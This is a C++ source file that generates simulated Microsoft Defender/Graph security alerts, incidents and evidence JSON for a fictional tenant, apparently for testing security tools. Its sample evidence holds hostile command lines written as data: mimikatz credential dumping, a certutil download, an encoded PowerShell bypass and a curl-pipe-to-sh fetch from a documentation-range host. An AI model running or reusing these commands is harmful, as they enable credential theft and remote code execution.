#include "graphrenderer.h"

#include "catalogue.h"
#include "simtenant.h"

#include <QRandomGenerator>

namespace Vigil::Sim {

namespace {

QJsonValue nullableString(const QString &value)
{
    return value.isNull() ? QJsonValue(QJsonValue::Null) : QJsonValue(value);
}

QJsonValue nullableTicks(Ticks ticks)
{
    return ticks == 0 ? QJsonValue(QJsonValue::Null) : QJsonValue(formatTicks(ticks));
}

QJsonValue nullableText(const char *text)
{
    return text ? QJsonValue(QString::fromUtf8(text)) : QJsonValue(QJsonValue::Null);
}

QString hex(QRandomGenerator &random, int digits)
{
    QString result;
    result.reserve(digits);
    while (result.size() < digits)
        result += QString::number(random.generate(), 16).rightJustified(8, u'0');
    return result.left(digits);
}

QString guid(QRandomGenerator &random)
{
    const QString h = hex(random, 32);
    return h.mid(0, 8) + u'-' + h.mid(8, 4) + u'-' + h.mid(12, 4) + u'-' + h.mid(16, 4) + u'-'
           + h.mid(20, 12);
}

QString productName(ServiceSource source)
{
    switch (source) {
    case ServiceSource::MicrosoftDefenderForEndpoint:
        return QStringLiteral("Microsoft Defender for Endpoint");
    case ServiceSource::MicrosoftDefenderForIdentity:
        return QStringLiteral("Microsoft Defender for Identity");
    case ServiceSource::MicrosoftDefenderForCloudApps:
        return QStringLiteral("Microsoft Defender for Cloud Apps");
    case ServiceSource::MicrosoftDefenderForOffice365:
        return QStringLiteral("Microsoft Defender for Office 365");
    case ServiceSource::Microsoft365Defender:
        return QStringLiteral("Microsoft Defender XDR");
    case ServiceSource::AzureAdIdentityProtection:
        return QStringLiteral("Microsoft Entra ID Protection");
    case ServiceSource::MicrosoftAppGovernance:
        return QStringLiteral("App governance");
    case ServiceSource::DataLossPrevention:
        return QStringLiteral("Microsoft Data Loss Prevention");
    case ServiceSource::MicrosoftDefenderForCloud:
        return QStringLiteral("Microsoft Defender for Cloud");
    default:
        return QStringLiteral("Microsoft 365");
    }
}

QString deviceId(int deviceIndex)
{
    QRandomGenerator random(0xde71ceu + static_cast<quint32>(deviceIndex));
    return hex(random, 40);
}

QJsonObject userAccount(int userIndex)
{
    const UserIdentity &user = Catalogue::users()[static_cast<std::size_t>(userIndex)];
    QRandomGenerator random(0x05e7u + static_cast<quint32>(userIndex));
    return {{QLatin1String("accountName"), QString::fromUtf8(user.accountName)},
            {QLatin1String("azureAdUserId"), guid(random)},
            {QLatin1String("displayName"), QString::fromUtf8(user.displayName)},
            {QLatin1String("domainName"), QStringLiteral("CONTOSO")},
            {QLatin1String("userPrincipalName"), QString::fromUtf8(user.userPrincipalName)},
            {QLatin1String("userSid"),
             QStringLiteral("S-1-5-21-1004336348-1177238915-682003330-%1").arg(1100 + userIndex)}};
}

struct FileSample
{
    const char *name;
    const char *path;
    const char *commandLine;
    const char *publisher;
};

constexpr FileSample Files[] = {
        {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
         "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand "
         "SQBFAFgAIAAoAE4AZQB3AC0A",
         "Microsoft Corporation"},
        {"mimikatz.exe", "C:\\Users\\Public\\Downloads",
         "mimikatz.exe \"sekurlsa::logonpasswords\" exit", nullptr},
        {"rundll32.exe", "C:\\Windows\\System32",
         "rundll32.exe C:\\ProgramData\\upd\\x64.dll,Start", "Microsoft Corporation"},
        {"certutil.exe", "C:\\Windows\\System32",
         "certutil.exe -urlcache -split -f http://203.0.113.7/p.bin C:\\Temp\\p.bin",
         "Microsoft Corporation"},
        {"Rechnung_2024-05.pdf.exe", "C:\\Users\\jweiss\\AppData\\Local\\Temp",
         "\"Rechnung_2024-05.pdf.exe\"", nullptr},
        {"sh", "/bin", "/bin/sh -c curl -s http://198.51.100.23/x | sh", nullptr},
};

QJsonObject fileDetails(QRandomGenerator &random, const FileSample &file)
{
    const bool signedByMs = file.publisher != nullptr;
    return {{QLatin1String("sha1"), hex(random, 40)},
            {QLatin1String("sha256"), hex(random, 64)},
            {QLatin1String("fileName"), QString::fromUtf8(file.name)},
            {QLatin1String("filePath"), QString::fromUtf8(file.path)},
            {QLatin1String("fileSize"), static_cast<qint64>(random.bounded(4'000'000) + 1024)},
            {QLatin1String("filePublisher"), nullableText(file.publisher)},
            {QLatin1String("signer"), nullableText(file.publisher)},
            {QLatin1String("issuer"),
             signedByMs ? QJsonValue(QStringLiteral("Microsoft Windows Production PCA 2011"))
                        : QJsonValue(QJsonValue::Null)}};
}

QString ipAddress(QRandomGenerator &random)
{
    // Documentation ranges (RFC 5737 / RFC 3849) so nothing real is ever pointed at.
    switch (random.bounded(4)) {
    case 0:
        return QStringLiteral("203.0.113.%1").arg(random.bounded(1, 255));
    case 1:
        return QStringLiteral("198.51.100.%1").arg(random.bounded(1, 255));
    case 2:
        return QStringLiteral("2001:db8::%1").arg(random.bounded(1, 0xffff), 0, 16);
    default:
        return QStringLiteral("192.0.2.%1").arg(random.bounded(1, 255));
    }
}

} // namespace

GraphRenderer::GraphRenderer(const SimTenant &tenant, bool includeEvolvableMembers)
    : m_tenant(tenant)
    , m_includeEvolvable(includeEvolvableMembers)
{ }

QString GraphRenderer::mdeDeviceId(int deviceIndex)
{
    return deviceId(deviceIndex);
}

QJsonObject GraphRenderer::userAccountOf(int userIndex)
{
    return userAccount(userIndex);
}

QJsonArray GraphRenderer::comments(const QList<Comment> &comments) const
{
    QJsonArray result;
    for (const Comment &comment : comments) {
        result.append(QJsonObject{
                {QLatin1String("comment"), comment.comment},
                {QLatin1String("createdByDisplayName"), comment.createdByDisplayName},
                {QLatin1String("createdDateTime"), formatTicks(comment.createdDateTime)}});
    }
    return result;
}

QJsonObject GraphRenderer::incident(const Incident &incident, bool withAlerts) const
{
    QRandomGenerator random(incident.seed);
    static const char *const Descriptions[] = {
            "This incident was created by Microsoft Defender XDR correlation from related alerts.",
            "Alerts on related entities were grouped into this incident automatically.",
            "Suspicious activity on the same user and device within a short time window.",
    };
    QJsonObject json{
            {QLatin1String("@odata.type"), QStringLiteral("#microsoft.graph.security.incident")},
            {QLatin1String("id"), QString::number(incident.id)},
            {QLatin1String("tenantId"), m_tenant.tenantId()},
            {QLatin1String("status"), wireName(incident.status, m_includeEvolvable)},
            {QLatin1String("incidentWebUrl"), m_tenant.incidentWebUrl(incident.id)},
            {QLatin1String("redirectIncidentId"),
             incident.redirectIncidentId ? QJsonValue(QString::number(incident.redirectIncidentId))
                                         : QJsonValue(QJsonValue::Null)},
            {QLatin1String("displayName"), incident.displayName},
            {QLatin1String("description"),
             QString::fromLatin1(
                     Descriptions[random.bounded(static_cast<int>(std::size(Descriptions)))])},
            {QLatin1String("createdDateTime"), formatTicks(incident.createdDateTime)},
            {QLatin1String("lastUpdateDateTime"), formatTicks(incident.lastUpdateDateTime)},
            {QLatin1String("assignedTo"), nullableString(incident.assignedTo)},
            {QLatin1String("classification"),
             wireName(incident.classification, m_includeEvolvable)},
            {QLatin1String("determination"), wireName(incident.determination, m_includeEvolvable)},
            {QLatin1String("severity"), wireName(incident.severity, m_includeEvolvable)},
            {QLatin1String("customTags"), QJsonArray::fromStringList(incident.customTags)},
            {QLatin1String("systemTags"), QJsonArray::fromStringList(incident.systemTags)},
            {QLatin1String("lastModifiedBy"), incident.lastModifiedBy},
            {QLatin1String("comments"), comments(incident.comments)},
    };
    if (withAlerts) {
        QJsonArray alerts;
        for (const qint32 index : incident.alerts)
            alerts.append(alert(m_tenant.alerts()[static_cast<std::size_t>(index)]));
        json.insert(QLatin1String("alerts"), alerts);
    }
    return json;
}

QJsonObject GraphRenderer::alert(const Alert &alert) const
{
    const AlertTemplate &kind = Catalogue::alertTemplates()[alert.templateIndex];
    const QString id = m_tenant.alertId(alert);
    const AlertAnnotations *extra = m_tenant.annotations(alert);
    QRandomGenerator random(alert.seed ^ 0xa1e27u);
    QJsonArray techniques;
    for (const QString &technique :
         QString::fromLatin1(kind.mitreTechniques).split(u',', Qt::SkipEmptyParts))
        techniques.append(technique);
    const QString detector = [&kind] {
        QRandomGenerator detectorRandom(static_cast<quint32>(qHash(QLatin1String(kind.title))));
        return guid(detectorRandom);
    }();
    const bool mde = kind.serviceSource == ServiceSource::MicrosoftDefenderForEndpoint;
    QJsonValue threatDisplayName(QJsonValue::Null);
    if (kind.threatFamilyName)
        threatDisplayName
                = QStringLiteral("Trojan:Win32/%1").arg(QLatin1String(kind.threatFamilyName));

    return {
            {QLatin1String("@odata.type"), QStringLiteral("#microsoft.graph.security.alert")},
            {QLatin1String("id"), id},
            {QLatin1String("providerAlertId"), mde ? id : guid(random)},
            {QLatin1String("incidentId"), alert.incidentId
                                                  ? QJsonValue(QString::number(alert.incidentId))
                                                  : QJsonValue(QJsonValue::Null)},
            {QLatin1String("status"), wireName(alert.status, m_includeEvolvable)},
            {QLatin1String("severity"), wireName(alert.severity, m_includeEvolvable)},
            {QLatin1String("classification"), wireName(alert.classification, m_includeEvolvable)},
            {QLatin1String("determination"), wireName(alert.determination, m_includeEvolvable)},
            {QLatin1String("serviceSource"), wireName(kind.serviceSource, m_includeEvolvable)},
            {QLatin1String("detectionSource"), wireName(kind.detectionSource, m_includeEvolvable)},
            {QLatin1String("productName"), productName(kind.serviceSource)},
            {QLatin1String("detectorId"), detector},
            {QLatin1String("tenantId"), m_tenant.tenantId()},
            {QLatin1String("title"), QString::fromUtf8(kind.title)},
            {QLatin1String("description"), QString::fromUtf8(kind.description)},
            {QLatin1String("recommendedActions"), QString::fromUtf8(kind.recommendedActions)},
            {QLatin1String("category"), QString::fromLatin1(kind.category)},
            {QLatin1String("assignedTo"), nullableString(m_tenant.alertAssignedTo(alert))},
            {QLatin1String("alertWebUrl"), m_tenant.alertWebUrl(id)},
            {QLatin1String("incidentWebUrl"),
             alert.incidentId ? QJsonValue(m_tenant.incidentWebUrl(alert.incidentId))
                              : QJsonValue(QJsonValue::Null)},
            {QLatin1String("actorDisplayName"), nullableText(kind.actorDisplayName)},
            {QLatin1String("threatDisplayName"), threatDisplayName},
            {QLatin1String("threatFamilyName"), nullableText(kind.threatFamilyName)},
            {QLatin1String("mitreTechniques"), techniques},
            {QLatin1String("createdDateTime"), formatTicks(alert.createdDateTime)},
            {QLatin1String("lastUpdateDateTime"), formatTicks(alert.lastUpdateDateTime)},
            {QLatin1String("resolvedDateTime"), nullableTicks(alert.resolvedDateTime)},
            {QLatin1String("firstActivityDateTime"), formatTicks(alert.firstActivityDateTime)},
            {QLatin1String("lastActivityDateTime"), formatTicks(alert.lastActivityDateTime)},
            {QLatin1String("alertPolicyId"),
             kind.serviceSource == ServiceSource::MicrosoftDefenderForOffice365
                     ? QJsonValue(guid(random))
                     : QJsonValue(QJsonValue::Null)},
            {QLatin1String("comments"), extra ? comments(extra->comments) : QJsonArray()},
            {QLatin1String("systemTags"), QJsonArray()},
            {QLatin1String("evidence"), evidence(alert)},
    };
}

QJsonArray GraphRenderer::evidence(const Alert &alert) const
{
    const AlertTemplate &kind = Catalogue::alertTemplates()[alert.templateIndex];
    QRandomGenerator random(alert.seed);
    const QString mdeDeviceId = deviceId(alert.deviceIndex);
    const QString deviceName = Catalogue::deviceName(alert.deviceIndex);
    const UserIdentity &user = Catalogue::users()[alert.userIndex];
    const QString upn = QString::fromUtf8(user.userPrincipalName);
    const FileSample &file = Files[random.bounded(static_cast<int>(std::size(Files)))];
    const bool malicious = alert.severity >= Severity::Medium;

    auto base = [&](const char *type, const QStringList &roles, const QStringList &detailedRoles) {
        static const char *const Remediation[]
                = {"none", "remediated", "prevented", "blocked", "notFound"};
        QJsonArray roleArray = QJsonArray::fromStringList(roles);
        return QJsonObject{
                {QLatin1String("@odata.type"),
                 QString(QLatin1String("#microsoft.graph.security.") + QLatin1String(type))},
                {QLatin1String("createdDateTime"), formatTicks(alert.createdDateTime)},
                {QLatin1String("verdict"),
                 malicious ? QStringLiteral("malicious")
                           : (random.bounded(2) ? QStringLiteral("suspicious")
                                                : QStringLiteral("noThreatsFound"))},
                {QLatin1String("remediationStatus"),
                 QString::fromLatin1(Remediation[random.bounded(5)])},
                {QLatin1String("remediationStatusDetails"), QJsonValue(QJsonValue::Null)},
                {QLatin1String("roles"), roleArray},
                {QLatin1String("detailedRoles"), QJsonArray::fromStringList(detailedRoles)},
                {QLatin1String("tags"), QJsonArray()},
        };
    };
    auto merge = [](QJsonObject object, const QJsonObject &fields) {
        for (auto it = fields.begin(); it != fields.end(); ++it)
            object.insert(it.key(), it.value());
        return object;
    };
    const auto has = [&kind](EvidenceKind evidenceKind) {
        return (kind.evidence & evidenceBit(evidenceKind)) != 0;
    };

    QJsonArray items;
    if (has(EvidenceKind::Device)) {
        const bool server = deviceName.startsWith(QLatin1String("SRV"))
                            || deviceName.startsWith(QLatin1String("LAB"));
        QJsonValue vm(QJsonValue::Null);
        if (server) {
            vm = QJsonObject{{QLatin1String("vmId"), guid(random)},
                             {QLatin1String("cloudProvider"), QStringLiteral("azure")},
                             {QLatin1String("resourceId"),
                              QStringLiteral("/subscriptions/%1/resourceGroups/rg-prod/providers/"
                                             "Microsoft.Compute/virtualMachines/%2")
                                      .arg(guid(random), deviceName.toLower())},
                             {QLatin1String("subscriptionId"), guid(random)}};
        }
        items.append(
                merge(base("deviceEvidence", {QStringLiteral("compromised")},
                           {QStringLiteral("Main device")}),
                      {{QLatin1String("mdeDeviceId"), mdeDeviceId},
                       {QLatin1String("azureAdDeviceId"), guid(random)},
                       {QLatin1String("deviceDnsName"),
                        QString(deviceName.toLower() + QLatin1String(".contoso.local"))},
                       {QLatin1String("firstSeenDateTime"),
                        formatTicks(alert.createdDateTime - 200 * TicksPerDay)},
                       {QLatin1String("osPlatform"),
                        server ? QStringLiteral("WindowsServer2022") : QStringLiteral("Windows11")},
                       {QLatin1String("osBuild"), server ? 20348 : 22631},
                       {QLatin1String("version"),
                        server ? QStringLiteral("21H2") : QStringLiteral("23H2")},
                       {QLatin1String("rbacGroupId"), 4 + alert.deviceIndex % 5},
                       {QLatin1String("rbacGroupName"), deviceName.section(u'-', 0, 0)},
                       {QLatin1String("healthStatus"), QStringLiteral("active")},
                       {QLatin1String("riskScore"),
                        malicious ? QStringLiteral("high") : QStringLiteral("medium")},
                       {QLatin1String("onboardingStatus"), QStringLiteral("onboarded")},
                       {QLatin1String("defenderAvStatus"), QStringLiteral("updated")},
                       {QLatin1String("ipInterfaces"),
                        QJsonArray{QStringLiteral("10.1.%1.%2")
                                           .arg(alert.deviceIndex % 250)
                                           .arg(1 + alert.deviceIndex % 200),
                                   QStringLiteral("fe80::%1").arg(alert.deviceIndex, 0, 16)}},
                       {QLatin1String("loggedOnUsers"),
                        QJsonArray{QJsonObject{
                                {QLatin1String("accountName"), QString::fromUtf8(user.accountName)},
                                {QLatin1String("domainName"), QStringLiteral("CONTOSO")}}}},
                       {QLatin1String("vmMetadata"), vm}}));
    }
    if (has(EvidenceKind::User)) {
        items.append(merge(base("userEvidence", {QStringLiteral("compromised")}, {}),
                           {{QLatin1String("userAccount"), userAccount(alert.userIndex)}}));
    }
    if (has(EvidenceKind::Mailbox)) {
        items.append(merge(base("mailboxEvidence", {QStringLiteral("destination")}, {}),
                           {{QLatin1String("displayName"), QString::fromUtf8(user.displayName)},
                            {QLatin1String("primaryAddress"), upn},
                            {QLatin1String("upn"), upn},
                            {QLatin1String("userAccount"), userAccount(alert.userIndex)}}));
    }
    if (has(EvidenceKind::File)) {
        items.append(merge(base("fileEvidence", {QStringLiteral("created")},
                                {QStringLiteral("Referred in command line")}),
                           {{QLatin1String("fileDetails"), fileDetails(random, file)},
                            {QLatin1String("detectionStatus"),
                             malicious ? QStringLiteral("blocked") : QStringLiteral("detected")},
                            {QLatin1String("mdeDeviceId"), mdeDeviceId}}));
    }
    if (has(EvidenceKind::Process)) {
        const Ticks started = alert.firstActivityDateTime;
        items.append(merge(
                base("processEvidence", {QStringLiteral("suspicious")}, {}),
                {{QLatin1String("processId"), static_cast<qint64>(random.bounded(400, 40000))},
                 {QLatin1String("parentProcessId"),
                  static_cast<qint64>(random.bounded(400, 40000))},
                 {QLatin1String("processCommandLine"), QString::fromUtf8(file.commandLine)},
                 {QLatin1String("processCreationDateTime"), formatTicks(started)},
                 {QLatin1String("parentProcessCreationDateTime"),
                  formatTicks(started - 37 * TicksPerMinute)},
                 {QLatin1String("detectionStatus"), QStringLiteral("detected")},
                 {QLatin1String("mdeDeviceId"), mdeDeviceId},
                 {QLatin1String("imageFile"), fileDetails(random, file)},
                 {QLatin1String("parentProcessImageFile"), fileDetails(random, Files[0])},
                 {QLatin1String("userAccount"), userAccount(alert.userIndex)}}));
    }
    if (has(EvidenceKind::Ip)) {
        static const char *const Countries[] = {"NL", "US", "BR", "RU", "DE", "PT", "SG"};
        items.append(merge(base("ipEvidence", {QStringLiteral("attacker")}, {}),
                           {{QLatin1String("ipAddress"), ipAddress(random)},
                            {QLatin1String("countryLetterCode"),
                             QString::fromLatin1(Countries[random.bounded(7)])}}));
    }
    if (has(EvidenceKind::Url)) {
        items.append(merge(base("urlEvidence", {QStringLiteral("commandAndControl")}, {}),
                           {{QLatin1String("url"),
                             QStringLiteral("https://login-contoso-sso.example/%1/auth?x=%2")
                                     .arg(hex(random, 6), hex(random, 10))}}));
    }
    if (has(EvidenceKind::RegistryKey)) {
        items.append(
                merge(base("registryKeyEvidence", {QStringLiteral("edited")}, {}),
                      {{QLatin1String("registryKey"),
                        QStringLiteral("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")},
                       {QLatin1String("registryHive"), QStringLiteral("HKEY_LOCAL_MACHINE")}}));
    }
    if (has(EvidenceKind::RegistryValue)) {
        items.append(merge(base("registryValueEvidence", {QStringLiteral("created")}, {}),
                           {{QLatin1String("registryKey"),
                             QStringLiteral("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")},
                            {QLatin1String("registryHive"), QStringLiteral("HKEY_LOCAL_MACHINE")},
                            {QLatin1String("registryValue"),
                             QStringLiteral("C:\\ProgramData\\upd\\updater.exe /silent")},
                            {QLatin1String("registryValueName"), QStringLiteral("OneDriveUpdate")},
                            {QLatin1String("registryValueType"), QStringLiteral("String")},
                            {QLatin1String("mdeDeviceId"), mdeDeviceId}}));
    }
    if (has(EvidenceKind::AnalyzedMessage)) {
        const QString messageId = guid(random);
        items.append(merge(
                base("analyzedMessageEvidence", {QStringLiteral("contextual")}, {}),
                {{QLatin1String("networkMessageId"), messageId},
                 {QLatin1String("internetMessageId"),
                  QStringLiteral("<%1@mail.fabrikam-invoices.example>").arg(hex(random, 16))},
                 {QLatin1String("subject"),
                  QStringLiteral("Zahlungserinnerung – Rechnung überfällig")},
                 {QLatin1String("language"), QStringLiteral("de")},
                 {QLatin1String("senderIp"), ipAddress(random)},
                 {QLatin1String("recipientEmailAddress"), upn},
                 {QLatin1String("antiSpamDirection"), QStringLiteral("inbound")},
                 {QLatin1String("deliveryAction"), QStringLiteral("delivered")},
                 {QLatin1String("deliveryLocation"), QStringLiteral("inbox")},
                 {QLatin1String("urn"), QStringLiteral("urn:MailEntity:%1").arg(hex(random, 32))},
                 {QLatin1String("threats"), QJsonArray{QStringLiteral("Phish")}},
                 {QLatin1String("threatDetectionMethods"),
                  QJsonArray{QStringLiteral("urlDetonation")}},
                 {QLatin1String("urls"),
                  QJsonArray{QStringLiteral("https://fabrikam-invoices.example/pay")}},
                 {QLatin1String("urlCount"), 1},
                 {QLatin1String("attachmentsCount"), 0},
                 {QLatin1String("receivedDateTime"), formatTicks(alert.firstActivityDateTime)},
                 {QLatin1String("p1Sender"),
                  QJsonObject{{QLatin1String("displayName"), QStringLiteral("Fabrikam Billing")},
                              {QLatin1String("domainName"),
                               QStringLiteral("fabrikam-invoices.example")},
                              {QLatin1String("emailAddress"),
                               QStringLiteral("billing@fabrikam-invoices.example")}}},
                 {QLatin1String("p2Sender"),
                  QJsonObject{{QLatin1String("displayName"), QStringLiteral("Fabrikam Billing")},
                              {QLatin1String("domainName"),
                               QStringLiteral("fabrikam-invoices.example")},
                              {QLatin1String("emailAddress"),
                               QStringLiteral("billing@fabrikam-invoices.example")}}}}));
    }
    if (has(EvidenceKind::CloudApplication)) {
        items.append(merge(
                base("cloudApplicationEvidence", {QStringLiteral("contextual")}, {}),
                {{QLatin1String("appId"), 20893},
                 {QLatin1String("displayName"), QStringLiteral("Microsoft SharePoint Online")},
                 {QLatin1String("instanceId"), 0},
                 {QLatin1String("instanceName"), QStringLiteral("Microsoft 365")},
                 {QLatin1String("saasAppId"), 20893}}));
    }
    if (has(EvidenceKind::MailCluster)) {
        items.append(
                merge(base("mailClusterEvidence", {QStringLiteral("contextual")}, {}),
                      {{QLatin1String("clusterBy"), QStringLiteral("Subject;SenderIp")},
                       {QLatin1String("clusterByValue"), hex(random, 12)},
                       {QLatin1String("emailCount"), static_cast<qint64>(random.bounded(2, 60))},
                       {QLatin1String("networkMessageIds"), QJsonArray{guid(random), guid(random)}},
                       {QLatin1String("query"),
                        QStringLiteral(
                                "(Subject:\"Zahlungserinnerung\") AND (SenderIp:\"203.0.113.9\")")},
                       {QLatin1String("urn"),
                        QStringLiteral("urn:MailClusterEntity:%1").arg(hex(random, 32))}}));
    }
    if (has(EvidenceKind::OauthApplication)) {
        items.append(merge(base("oauthApplicationEvidence", {QStringLiteral("suspicious")}, {}),
                           {{QLatin1String("appId"), guid(random)},
                            {QLatin1String("displayName"), QStringLiteral("Invoice Sync Helper")},
                            {QLatin1String("objectId"), guid(random)},
                            {QLatin1String("publisher"), QStringLiteral("Unverified publisher")}}));
    }
    if (has(EvidenceKind::SecurityGroup)) {
        items.append(merge(base("securityGroupEvidence", {QStringLiteral("edited")}, {}),
                           {{QLatin1String("displayName"), QStringLiteral("Domain Admins")},
                            {QLatin1String("securityGroupId"),
                             QStringLiteral("S-1-5-21-1004336348-1177238915-682003330-512")}}));
    }
    if (has(EvidenceKind::KubernetesPod)) {
        items.append(merge(
                base("kubernetesPodEvidence", {QStringLiteral("compromised")}, {}),
                {{QLatin1String("name"), QStringLiteral("payments-api-%1").arg(hex(random, 5))},
                 {QLatin1String("namespace"),
                  QJsonObject{
                          {QLatin1String("@odata.type"),
                           QStringLiteral("#microsoft.graph.security.kubernetesNamespaceEvidence")},
                          {QLatin1String("name"), QStringLiteral("prod")}}},
                 {QLatin1String("podIp"),
                  QJsonObject{{QLatin1String("@odata.type"),
                               QStringLiteral("#microsoft.graph.security.ipEvidence")},
                              {QLatin1String("ipAddress"), QStringLiteral("10.244.%1.%2")
                                                                   .arg(random.bounded(255))
                                                                   .arg(random.bounded(1, 255))}}},
                 {QLatin1String("labels"),
                  QJsonObject{{QLatin1String("app"), QStringLiteral("payments-api")}}},
                 {QLatin1String("containers"), QJsonArray()}}));
    }
    if (has(EvidenceKind::AiAgent)) {
        items.append(merge(base("aiAgentEvidence", {QStringLiteral("attacked")}, {}),
                           {{QLatin1String("agentId"), guid(random)},
                            {QLatin1String("agentName"), QStringLiteral("HR Onboarding Assistant")},
                            {QLatin1String("hostingPlatformType"), QStringLiteral("copilotStudio")},
                            {QLatin1String("instructions"),
                             QStringLiteral("Answer onboarding questions for new employees.")}}));
    }
    return items;
}

} // namespace Vigil::Sim
